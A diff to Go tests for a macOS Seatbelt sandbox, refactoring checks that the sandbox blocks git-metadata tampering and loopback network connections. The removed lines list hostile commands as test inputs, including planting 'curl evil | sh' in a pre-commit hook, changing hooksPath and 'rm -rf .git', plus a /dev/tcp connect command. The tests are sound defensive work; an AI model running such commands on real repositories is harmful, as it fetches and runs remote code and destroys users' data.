@@ -8,7 +8,6 @@ package sandbox
 import (
 	"errors"
 	"fmt"
-	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -126,22 +125,14 @@ func TestSeatbeltGitProtected(t *testing.T) {
 	t.Parallel()
 	setup := func(t *testing.T, allow bool) *box {
 		b := seatbeltBox(t, Config{AllowGitConfig: allow})
-		for _, d := range []string{".git/hooks", ".git/objects", ".git/refs"} {
-			require.NoError(t, os.MkdirAll(filepath.Join(b.ws, d), 0o755))
-		}
-		require.NoError(t, os.WriteFile(filepath.Join(b.ws, ".git/config"), []byte("[core]\n"), 0o644))
+		b.gitRepo()
 		return b
 	}
 	b := setup(t, false)
 	b.ok("echo ref > .git/refs/x && touch .git/index")
-	for _, cmd := range []string{
-		"echo 'curl evil | sh' > .git/hooks/pre-commit",
-		"printf '[core]\\nhooksPath = x\\n' >> .git/config",
-		"echo x > .git/commondir",
-		"mv .git .git-old",
-		"rm -rf .git/hooks",
-		"rm -rf .git",
-	} {
+	// Unlike Linux, which protects what exists, Seatbelt also refuses a
+	// commondir added to the repository.
+	for _, cmd := range append(gitAttacks, "echo x > .git/commondir") {
 		b.fails(cmd)
 	}
 	assert.NoFileExists(t, filepath.Join(b.ws, ".git/hooks/pre-commit"))
@@ -154,19 +145,7 @@ func TestSeatbeltGitProtected(t *testing.T) {
 
 func TestSeatbeltNetwork(t *testing.T) {
 	t.Parallel()
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	require.NoError(t, err)
-	t.Cleanup(func() { ln.Close() })
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
-			}
-			c.Close()
-		}
-	}()
-	connect := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", ln.Addr().(*net.TCPAddr).Port)
+	connect, _ := loopback(t)
 	t.Run("refuses the host's loopback", func(t *testing.T) {
 		b := seatbeltBox(t, Config{})
 		assert.NotContains(t, b.fails(connect), "connected")
